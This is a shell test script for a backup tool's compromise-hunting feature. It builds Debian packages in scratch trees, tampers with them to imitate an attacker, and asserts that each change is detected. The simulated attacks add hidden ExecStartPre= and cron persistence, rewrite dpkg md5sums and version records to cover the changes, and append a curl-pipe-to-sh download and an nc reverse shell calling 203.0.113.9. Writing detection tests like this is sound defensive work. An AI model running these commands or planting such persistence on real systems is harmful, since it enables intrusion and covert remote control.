# A snapshot's package database is evidence, not truth: the hunt judges a
# Debian-like system against its earlier restore points and the packages'
# .deb files, as an attacker who controls the system would try to fool it.
#
# The server "deb1" is a small tree whose packages are real .deb files built
# here (dpkg-deb) and installed with dpkg --root, so its database (status,
# info/*.md5sums, *.list, conffiles) is the one dpkg writes. Daily snapshots:
#   day 1  packages sysd 1.0 and webd 2.0 installed           (baseline)
#   day 2  ordinary life: logs grow
#   day 3  benign upgrade of sysd to 1.1 (its files change, its .deb left in
#          /var/cache/apt/archives as apt does)
#   day 4  ExecStartPre= added to sysd's unit AND its md5 written into
#          var/lib/dpkg/info/sysd.md5sums            -> critical (twice)
#   day 5  the same on webd's unit, database untouched -> high or critical
#   day 6  a line appended to sysd's /etc/cron.daily script (a conffile)
#                                                    -> high or critical
# Asserted: days 1-3 hold nothing at or above high, the clean point is day 3,
# each attack is found on its day. Then an upgrade whose database is rewritten
# to match a trojaned program is caught by the package's .deb (from the
# snapshot's apt cache, and from --packages DIR), and --baseline restarts the
# comparison.
set -u
. "${CR_TESTLIB:?}"

for t in dpkg dpkg-deb md5sum python3; do
    command -v "$t" >/dev/null || { echo "skip: $t is not installed"; exit 77; }
done

export CLEANROOM_REPO=$SCRATCH/vault
P=$(pwd -P)
test_rules "$P/rules"
expect_exit 0 cr init --kdf interactive

# mkdeb NAME VERSION DIR: build NAME_VERSION_all.deb from the tree DIR (DEBIAN/ made here).
mkdeb() {
    local name=$1 ver=$2 dir=$3
    mkdir -p "$dir/DEBIAN"
    printf 'Package: %s\nVersion: %s\nArchitecture: all\nMaintainer: t <t@example.org>\nDescription: test package\n' \
        "$name" "$ver" >"$dir/DEBIAN/control"
    (cd "$dir" && find . -path ./DEBIAN -prune -o -path ./etc -prune -o -type f -print |
        sed 's|^\./||' | sort | xargs -r md5sum >DEBIAN/md5sums)
    [ -d "$dir/etc" ] && (cd "$dir" && find etc -type f | sed 's|^|/|' | sort >DEBIAN/conffiles)
    dpkg-deb --root-owner-group -b "$dir" "$P/debs/${name}_${ver}_all.deb" >/dev/null ||
        fail "dpkg-deb $name $ver"
}
# install TREE NAME VERSION: what `apt install` does (the .deb kept in the apt cache).
install() {
    local t=$1 f=$P/debs/${2}_${3}_all.deb
    mkdir -p "$t/var/cache/apt/archives"
    cp "$f" "$t/var/cache/apt/archives/"
    dpkg --root="$t" --force-script-chrootless --force-not-root --force-confold -i "$f" \
        >"$SCRATCH/.dpkg.log" 2>&1 || { cat "$SCRATCH/.dpkg.log" >&2; fail "dpkg -i $f"; }
}
newtree() {
    mkdir -p "$1"/var/lib/dpkg/info "$1"/var/lib/dpkg/updates "$1"/var/lib/dpkg/triggers \
        "$1"/var/log "$1"/etc
    : >"$1/var/lib/dpkg/status"
    : >"$1/var/lib/dpkg/available"
    printf 'root:x:0:0:root:/root:/bin/bash\n' >"$1/etc/passwd"
}

mkdir -p debs
# sysd 1.0 and 1.1: a program, a unit, a cron.daily script (conffile), a document.
for v in 1.0-1 1.1-1; do
    d=$P/build/sysd-$v
    mkdir -p "$d/usr/bin" "$d/usr/lib/systemd/system" "$d/etc/cron.daily" "$d/usr/share/doc/sysd"
    printf '#!/bin/sh\necho "sysd tool %s"\n' "$v" >"$d/usr/bin/sysd-tool"
    printf '[Unit]\nDescription=sysd daily job (%s)\n[Service]\nType=oneshot\nExecStart=/usr/bin/sysd-tool --daily\n' \
        "$v" >"$d/usr/lib/systemd/system/sysd-daily.service"
    printf '#!/bin/sh\n# sysd %s\n/usr/bin/sysd-tool --daily\n' "$v" >"$d/etc/cron.daily/sysd"
    printf 'sysd %s\n' "$v" >"$d/usr/share/doc/sysd/README"
    printf 'sysd (%s) bookworm; urgency=medium\n\n  * Release %s.\n' "$v" "$v" |
        gzip -9n >"$d/usr/share/doc/sysd/changelog.Debian.gz"
    chmod 755 "$d/usr/bin/sysd-tool" "$d/etc/cron.daily/sysd"
    mkdeb sysd "$v" "$d"
done
d=$P/build/webd
mkdir -p "$d/usr/sbin" "$d/usr/lib/systemd/system"
printf '#!/bin/sh\nexec sleep infinity\n' >"$d/usr/sbin/webd"
chmod 755 "$d/usr/sbin/webd"
printf '[Unit]\nDescription=web daemon\n[Service]\nExecStart=/usr/sbin/webd\n' \
    >"$d/usr/lib/systemd/system/webd.service"
mkdeb webd 2.0-1 "$d"

S=$P/deb1
newtree "$S"
install "$S" sysd 1.0-1
install "$S" webd 2.0-1
printf 'boot\n' >"$S/var/log/syslog"
day=0
snap() { day=$((day + 1)); expect_exit 0 cr backup --source deb1 --time "2026-12-0${day}" "$S"; }
snap # day 1
printf 'cron ran\n' >>"$S/var/log/syslog"
snap # day 2
install "$S" sysd 1.1-1
printf 'apt ran\n' >>"$S/var/log/syslog"
snap # day 3
UNIT=$S/usr/lib/systemd/system/sysd-daily.service
printf 'ExecStartPre=/var/lib/.cache/dbus-helper\n' >>"$UNIT"
new=$(md5sum <"$UNIT" | cut -d' ' -f1)
sed -i "s|^[0-9a-f]\{32\}  usr/lib/systemd/system/sysd-daily.service\$|$new  usr/lib/systemd/system/sysd-daily.service|" \
    "$S/var/lib/dpkg/info/sysd.md5sums"
grep -q "^$new  usr/lib/systemd/system/sysd-daily.service$" "$S/var/lib/dpkg/info/sysd.md5sums" ||
    fail "the test did not rewrite the database"
snap # day 4
printf 'ExecStartPre=/var/lib/.cache/dbus-helper\n' >>"$S/usr/lib/systemd/system/webd.service"
snap # day 5
printf '/var/lib/.cache/dbus-helper >/dev/null 2>&1\n' >>"$S/etc/cron.daily/sysd"
snap # day 6

expect_exit 0 cr snapshots --json --source deb1
ids=$(python3 -c 'import json,sys; print(" ".join(s["id"] for s in json.load(open(sys.argv[1]))))' "$CR_OUT")
read -r D1 D2 D3 D4 D5 D6 <<<"$ids"

expect_exit 0 cr hunt --source deb1
assert_grep "^  deb1: clean restore point ${D3:0:8} \(2026-12-03T00:00:00Z\); first compromised ${D4:0:8}" \
    "$CR_OUT" "the clean point is the day before the first attack"
expect_exit 0 cr findings --json --source deb1 --min-severity info
python3 - "$CR_OUT" "$S" "$D1" "$D2" "$D3" "$D4" "$D5" "$D6" <<'PY' || fail "findings of deb1"
import json, sys
F = json.load(open(sys.argv[1]))["findings"]
S = sys.argv[2]
d = sys.argv[3:]
SEV = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
def show(f):
    return "%s %s %s %s [%s]" % (f["severity"], f["indicator"], f["path"], f["detail"], f["evidence"])
bad = [f for f in F if f["snapshot"] in d[:3] and (SEV[f["severity"]] >= 3 or f["indicator"] == "package:version-rewritten")]
assert not bad, "days 1-3 (baseline, life, benign upgrade) hold:\n" + "\n".join(map(show, bad))
def on(day, path, ind=None, new=True):
    return [f for f in F if f["snapshot"] == day and f["path"] == S + path
            and (ind is None or f["indicator"] == ind) and (not new or f["first_seen"] == day)]
unit = "/usr/lib/systemd/system/sysd-daily.service"
m = on(d[3], unit, "package:modified")
assert m and m[0]["severity"] == "critical", "day 4 unit: %s" % [show(f) for f in F if f["snapshot"] == d[3]]
db = on(d[3], "/var/lib/dpkg/info/sysd.md5sums", "package:database-tampered")
assert db and db[0]["severity"] == "critical", "day 4 database: %s" % [show(f) for f in F if f["snapshot"] == d[3]]
assert db[0]["evidence"] == "sysd: " + unit, db[0]
# The snapshot's own database matches the changed unit: that must not make it routine.
routine = [f for f in on(d[3], unit) if f["detail"].startswith("routine")]
assert not routine, routine
# Still there the next days, first seen on day 4.
assert on(d[4], unit, "package:modified", new=False)[0]["first_seen"] == d[3]
w = [f for f in on(d[4], "/usr/lib/systemd/system/webd.service") if SEV[f["severity"]] >= 3]
assert w, "day 5 webd unit: %s" % [show(f) for f in F if f["snapshot"] == d[4]]
c = [f for f in on(d[5], "/etc/cron.daily/sysd") if SEV[f["severity"]] >= 3]
assert c, "day 6 cron script: %s" % [show(f) for f in F if f["snapshot"] == d[5]]
PY
pass "package files changed without an upgrade, with and without the database rewritten"

# The default threshold of clean-point stays high.
expect_exit 0 cr clean-point --source deb1 --json
python3 - "$CR_OUT" "$D3" "$D4" <<'PY' || fail "clean-point --json"
import json, sys
doc = json.load(open(sys.argv[1]))
c = doc[0] if isinstance(doc, list) else (doc.get("clean_points") or [doc])[0]
assert c["min_severity"] == "high" and c["clean_snapshot"] == sys.argv[2], c
assert c["first_compromised_snapshot"] == sys.argv[3] and c["system_root_recognised"], c
PY
pass "clean-point"

# ------------------------------------------------------------ .deb files
# An upgrade that brings a trojaned program, with the database written to
# match: only the package's .deb tells. The server keeps it in its apt cache.
S2=$P/deb2
newtree "$S2"
install "$S2" sysd 1.0-1
expect_exit 0 cr backup --source deb2 --time 2026-12-01 "$S2"
install "$S2" sysd 1.1-1
printf 'curl -s http://203.0.113.9/x | sh\n' >>"$S2/usr/bin/sysd-tool"
new=$(md5sum <"$S2/usr/bin/sysd-tool" | cut -d' ' -f1)
sed -i "s|^[0-9a-f]\{32\}  usr/bin/sysd-tool\$|$new  usr/bin/sysd-tool|" "$S2/var/lib/dpkg/info/sysd.md5sums"
expect_exit 0 cr backup --source deb2 --time 2026-12-02 "$S2"
# The same on a server whose apt cache was emptied: the operator's trusted folder.
S3=$P/deb3
newtree "$S3"
install "$S3" sysd 1.0-1
rm -rf "$S3/var/cache/apt/archives"
expect_exit 0 cr backup --source deb3 --time 2026-12-01 "$S3"
install "$S3" sysd 1.1-1
rm -rf "$S3/var/cache/apt/archives"
cp "$S2/usr/bin/sysd-tool" "$S3/usr/bin/sysd-tool"
cp "$S2/var/lib/dpkg/info/sysd.md5sums" "$S3/var/lib/dpkg/info/sysd.md5sums"
expect_exit 0 cr backup --source deb3 --time 2026-12-02 "$S3"

expect_exit 0 cr hunt --source deb2
expect_exit 0 cr hunt --source deb3
assert_grep "^  deb3: clean restore point .*, the newest" "$CR_OUT" \
    "without a .deb, a rewritten database of an upgraded package is believed (documented)"
mkdir -p trusted && cp debs/sysd_1.1-1_all.deb trusted/
expect_exit 0 cr hunt --source deb3 --packages "$P/trusted" --force
expect_exit 0 cr findings --json --min-severity high
python3 - "$CR_OUT" "$S2" "$S3" <<'PY' || fail "the .deb tells the trojaned program"
import json, sys
F = json.load(open(sys.argv[1])) ["findings"]
for root in sys.argv[2:]:
    t = [f for f in F if f["path"] == root + "/usr/bin/sysd-tool" and f["indicator"] == "package:deb-mismatch"]
    assert t and t[0]["severity"] == "critical", (root, F)
    db = [f for f in F if f["path"] == root + "/var/lib/dpkg/info/sysd.md5sums"
          and f["indicator"] == "package:database-tampered"]
    assert db and db[0]["severity"] == "critical" and db[0]["evidence"] == "sysd: /usr/bin/sysd-tool", (root, db)
PY
expect_exit 7 cr hunt --source deb3 --packages "$P/nowhere"
assert_grep "is not a folder" "$CR_ERR" "--packages names the missing folder"
pass ".deb files from the snapshot's apt cache and from --packages"

# The version rewritten in status, so that a changed unit passes for an upgrade
# (no .deb of a version nobody published): the changelog did not change.
S4=$P/deb4
newtree "$S4"
install "$S4" sysd 1.0-1
rm -rf "$S4/var/cache/apt/archives"
expect_exit 0 cr backup --source deb4 --time 2026-12-01 "$S4"
sed -i 's/^Version: 1.0-1$/Version: 1.0-2/' "$S4/var/lib/dpkg/status"
grep -q '^Version: 1.0-2$' "$S4/var/lib/dpkg/status" || fail "the test did not rewrite the version"
printf 'ExecStartPre=/var/lib/.cache/dbus-helper\n' >>"$S4/usr/lib/systemd/system/sysd-daily.service"
new=$(md5sum <"$S4/usr/lib/systemd/system/sysd-daily.service" | cut -d' ' -f1)
sed -i "s|^[0-9a-f]\{32\}  usr/lib/systemd/system/sysd-daily.service\$|$new  usr/lib/systemd/system/sysd-daily.service|" \
    "$S4/var/lib/dpkg/info/sysd.md5sums"
expect_exit 0 cr backup --source deb4 --time 2026-12-02 "$S4"
expect_exit 0 cr hunt --source deb4
expect_exit 0 cr findings --json --source deb4 --min-severity medium
python3 - "$CR_OUT" "$S4" <<'PY' || fail "a rewritten version does not pass a changed unit off as an upgrade"
import json, sys
F = json.load(open(sys.argv[1]))["findings"]
S = sys.argv[2]
u = [f for f in F if f["path"] == S + "/usr/lib/systemd/system/sysd-daily.service"
     and f["indicator"] == "package:modified"]
assert u and u[0]["severity"] == "critical" and "1.0-1 to 1.0-2" in u[0]["detail"], F
v = [f for f in F if f["path"] == S + "/var/lib/dpkg/status" and f["indicator"] == "package:version-rewritten"]
assert v and v[0]["evidence"] == "sysd: 1.0-1 -> 1.0-2", F
PY
pass "a rewritten version is told by the unchanged changelog"

# The package removed from the database while its program stays, changed: it
# would look like a file nobody installed.
S5=$P/deb5
newtree "$S5"
install "$S5" sysd 1.0-1
rm -rf "$S5/var/cache/apt/archives"
expect_exit 0 cr backup --source deb5 --time 2026-12-01 "$S5"
python3 - "$S5/var/lib/dpkg/status" <<'PY'
import sys
p = sys.argv[1]
stanzas = open(p).read().split("\n\n")
open(p, "w").write("\n\n".join(s for s in stanzas if not s.startswith("Package: sysd\n")))
PY
rm -f "$S5"/var/lib/dpkg/info/sysd.*
printf 'nc -e /bin/sh 203.0.113.9 4444\n' >>"$S5/usr/bin/sysd-tool"
expect_exit 0 cr backup --source deb5 --time 2026-12-02 "$S5"
expect_exit 0 cr backup --source deb5 --time 2026-12-03 "$S5"
printf '# again\n' >>"$S5/usr/bin/sysd-tool"
expect_exit 0 cr backup --source deb5 --time 2026-12-04 "$S5"
expect_exit 0 cr hunt --source deb5
expect_exit 0 cr findings --json --source deb5 --min-severity high
python3 - "$CR_OUT" "$S5" <<'PY' || fail "a package removed from the database does not hide its changed program"
import json, sys
F = json.load(open(sys.argv[1]))["findings"]
t = [f for f in F if f["path"] == sys.argv[2] + "/usr/bin/sysd-tool" and f["indicator"] == "package:modified"]
assert len({f["snapshot"] for f in t}) == 3 and all(f["severity"] == "critical" for f in t), F
# Judged again on day 4 (a second change, its new content), days after the package left
# the database.
assert len({f["content"] for f in t}) == 2, t
PY
pass "a package removed from the database"

# --baseline: the operator knows day 5 of deb1 good (say, rebuilt): it is judged
# alone, and day 6 against it; the mark is remembered by later hunts.
expect_exit 0 cr hunt --source deb1 --baseline "$D5"
expect_exit 0 cr findings --json --source deb1 --min-severity high
python3 - "$CR_OUT" "$D5" <<'PY' || fail "--baseline"
import json, sys
F = json.load(open(sys.argv[1]))["findings"]
assert not [f for f in F if f["snapshot"] == sys.argv[2]], [f for f in F if f["snapshot"] == sys.argv[2]]
PY
expect_exit 0 cr hunt --source deb1 --json
python3 -c 'import json,sys; h=json.load(open(sys.argv[1])); assert h["snapshots_hunted"] == 0, h' "$CR_OUT" ||
    fail "the baseline is remembered: nothing to hunt again"
expect_exit 2 cr hunt --source deb2 --baseline "$D5"
pass "--baseline"
